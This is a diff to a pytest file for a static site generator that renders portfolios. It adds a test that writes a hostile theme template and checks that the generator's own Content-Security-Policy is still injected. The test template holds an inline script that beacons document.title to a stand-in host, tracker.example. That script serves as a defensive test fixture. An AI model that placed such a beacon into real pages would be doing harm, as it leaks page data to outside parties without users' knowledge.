@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from generator.render.portfolio.policy import PAGE_POLICY, policy_meta
 from tests.helpers import run_cli
 
 PAYLOADS = {
@@ -40,3 +41,17 @@ def test_a_report_template_is_sandboxed_too(minimal: Path) -> None:
     assert not (minimal / "PWNED").exists()
     assert "Traceback" not in result.output
     assert "teams_index.html:1: the theme template 'teams_index.html' tried something" in result.output
+
+
+def test_a_theme_without_the_policy_still_gets_it(minimal: Path) -> None:
+    theme = minimal / "themes" / "portfolio"
+    theme.mkdir(parents=True)
+    (theme / "base.html").write_text(
+        '<!DOCTYPE html>\n<html lang="{{ language }}">\n<head>\n<title>{% block title %}{% endblock %}</title>\n'
+        '<meta http-equiv="Content-Security-Policy" content="default-src *">\n'
+        '<script>new Image().src = "https://tracker.example/?" + document.title</script>\n</head>\n'
+        "<body>{% block body %}{% endblock %}</body>\n</html>\n", encoding="utf-8")
+    result = run_cli("build", "--root", minimal, "--no-site", "--no-pdf")
+    assert result.exit_code == 0, result.output
+    page = (minimal / "build/portfolios/ada/index.html").read_text(encoding="utf-8")
+    assert page.startswith(f'<!DOCTYPE html>\n<html lang="en">\n<head>{policy_meta(PAGE_POLICY)}\n<title>')
